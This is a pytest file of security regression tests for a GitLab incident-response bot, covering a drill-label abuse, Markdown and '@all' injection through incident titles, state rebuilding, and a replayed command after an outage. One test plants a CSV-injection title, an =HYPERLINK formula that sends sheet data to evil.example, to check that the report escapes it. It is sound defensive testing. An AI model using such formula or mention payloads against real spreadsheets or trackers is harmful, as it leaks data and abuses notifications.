"""Attacks on issues 14-18 (sync, labels set by hand, reopen, ticks, CSAT and drills, the report, failure
notices) found by a third security review of the merged change.

Each test asserts the secure outcome and failed on the code it was written against.
"""

from __future__ import annotations

import pytest
from test_sync import sync  # noqa: F401  (the fixture)


# -- 1. A Reporter turns a real incident into a drill with a label -------------------------------------
# `is_drill` believed the `drill` label at any time, while the label is no command: a Reporter (who may set
# any label in GitLab) adds `drill` to a live SEV1, and from then on every note says DRILL, the cadence's
# reminders page nobody outside the role holders, and the report files the incident among the exercises.
# Only a Developer's declare (a `drill:` field, or the label already there when they declare) makes a drill.
def test_a_reporter_label_does_not_make_a_live_incident_a_drill(world):
    iid = world.declare(sev="sev1")
    labels = world.issue(iid)["labels"]
    world.edit_issue(iid, who="rita", labels=",".join(labels + ["drill"]))
    assert "drill" in world.issue(iid)["labels"]
    world.comment(iid, "/incident update\nsummary: still failing over\n")
    reply = world.reply(iid, "periodic_status_update") if "periodic_status_update" in world.kinds(iid) \
        else world.last_reply(iid)
    assert "DRILL" not in reply, "a Reporter's label silenced a live SEV1 as a drill"
    assert world.state(iid).drill is False


# -- 2. An incident's title reaches the report issue as the bot's own Markdown -------------------------
# The bot's notes pass the title through `neutralize` (render.incident_context), but the report's Markdown
# took `r.title` as it is, and `--post-issue` writes it into an issue as the bot: anyone who may edit an
# incident's title (a Reporter) makes the bot notify every member with "@all", or opens an HTML comment
# that hides the rest of the report (every figure after it) from its readers.
def test_an_incident_title_cannot_notify_all_or_hide_the_report(world, monkeypatch):
    from datetime import datetime, timezone

    from bot.cli import main
    from bot.statekey import ensure_state_key

    iid = world.declare(sev="sev2")
    world.edit_issue(iid, who="rita", title="Checkout down @all <!-- the rest is hidden")
    world.comment(iid, "/incident resolve\nsummary: rolled back\n")
    today = datetime.now(timezone.utc).date().isoformat()
    monkeypatch.setenv("GITLAB_URL", world.cfg.gitlab_url)
    monkeypatch.setenv("GITLAB_TOKEN", world.cfg.gitlab_token)
    monkeypatch.setenv("INCIDENT_BOT_STATE_KEY", ensure_state_key(world.cfg))
    assert main(["report", "--project", world.project["path_with_namespace"], "--since", today, "--until", today,
                 "--post-issue", "--out", "/dev/null"]) == 0
    report = next(i for i in world.sb.issues(world.pid) if "incident-report" in i["labels"])
    desc = report["description"]
    assert "Checkout down" in desc
    assert "@all" not in desc, "the report issue notifies every member as the bot"
    assert desc.count("<!--") == 1, "person text opened an HTML comment in the report"


# -- 3. A drill whose block is lost becomes a live incident ---------------------------------------------
# With the state the one source of "drill" (1.), a rebuilt state must read it from what only the bot wrote:
# the DRILL heading of its Initial Status Update. It did not, so anyone who damages the block of a drill
# (a Reporter may edit the description) turns the exercise into a live incident: reminders page the author
# and everyone else, and the report counts it among the real incidents.
def test_a_drill_rebuilt_from_the_bot_notes_stays_a_drill(world):
    iid = world.declare(sev="sev2", fields="drill: true\n")
    assert world.state(iid).drill is True
    world.edit_issue(iid, who="rita", description="Game day: nothing is down.")
    world.comment(iid, "/incident update\nsummary: exercise going on\n")
    assert world.state(iid).drill is True, "a lost block turned the drill into a live incident"
    assert "DRILL" in world.last_reply(iid)


# -- 4. A command the bot said it gave up on runs at the next sync, after the person repeated it ---------
# A delivery given up on (GitLab down past `outage_retry_minutes`) gets a note: "was not carried out ... The
# bot will not try it again by itself ... or you can repeat it". The person repeats it. But sync rebuilds the
# events from GitLab and takes a note as answered only when a bot marker names it (`note-<id>-...`); the
# notice's key (`failed-<delivery>.notice-...`) names no note, so the next pass (its mark is from before the
# outage) queues the dead command again: the update is posted twice, as the bot had said it would not be.
@pytest.mark.deliveries_may_fail("the command is given up on by design; the test checks what sync does after")
def test_sync_does_not_run_a_command_the_bot_said_it_gave_up_on(world, sync):  # noqa: F811 (the fixture)
    from test_outage import gitlab_down, not_carried_out, post, row, wait_for

    world.bot.queue.settings.update(outage_retry_minutes=0.01)  # gives up after 0.6 s
    iid = world.declare(sev="sev2")
    gitlab_down(world)
    post(world, "alice", iid, "/incident update\nsummary: step 1\n")
    wait_for(lambda: (r := row(world)) and r["status"] == "dead", what="the delivery to die")
    world.sb.clear_faults()
    world.settle()
    assert len(not_carried_out(world, iid)) == 1
    world.comment(iid, "/incident update\nsummary: step 1 again\n")  # repeated, as the notice says
    assert world.kinds(iid).count("update") == 1
    code, _ = sync()
    assert code == 0
    assert world.kinds(iid).count("update") == 1, "sync ran the command the bot said it would not try again"


# -- 5. An incident's title runs as a formula in the report's CSV ---------------------------------------
# `--format csv` is for spreadsheets ("for charting elsewhere"). A title is person text that anyone who may
# edit the issue sets; a cell that starts with "=", "+", "-" or "@" is a formula to Excel, LibreOffice and
# Google Sheets (CSV injection: =HYPERLINK to send the sheet's figures away, or DDE on old Excel). The title
# went into the cell as it is.
def test_an_incident_title_is_no_formula_in_the_report_csv(world, monkeypatch, capsys):
    import csv
    import io
    from datetime import datetime, timezone

    from bot.cli import main
    from bot.statekey import ensure_state_key

    iid = world.declare(sev="sev3")
    title = '=HYPERLINK("http://evil.example/?"&B2,"SSO logins failing")'
    world.edit_issue(iid, who="rita", title=title)
    today = datetime.now(timezone.utc).date().isoformat()
    monkeypatch.setenv("GITLAB_URL", world.cfg.gitlab_url)
    monkeypatch.setenv("GITLAB_TOKEN", world.cfg.gitlab_token)
    monkeypatch.setenv("INCIDENT_BOT_STATE_KEY", ensure_state_key(world.cfg))
    capsys.readouterr()
    assert main(["report", "--project", world.project["path_with_namespace"], "--since", today, "--until", today,
                 "--format", "csv"]) == 0
    head = capsys.readouterr().out.split("\n\n", 1)[0]
    (row,) = list(csv.DictReader(io.StringIO(head)))
    assert "HYPERLINK" in row["title"]
    assert row["title"][0] not in "=+-@\t\r", "a person's title is a formula in the spreadsheet"
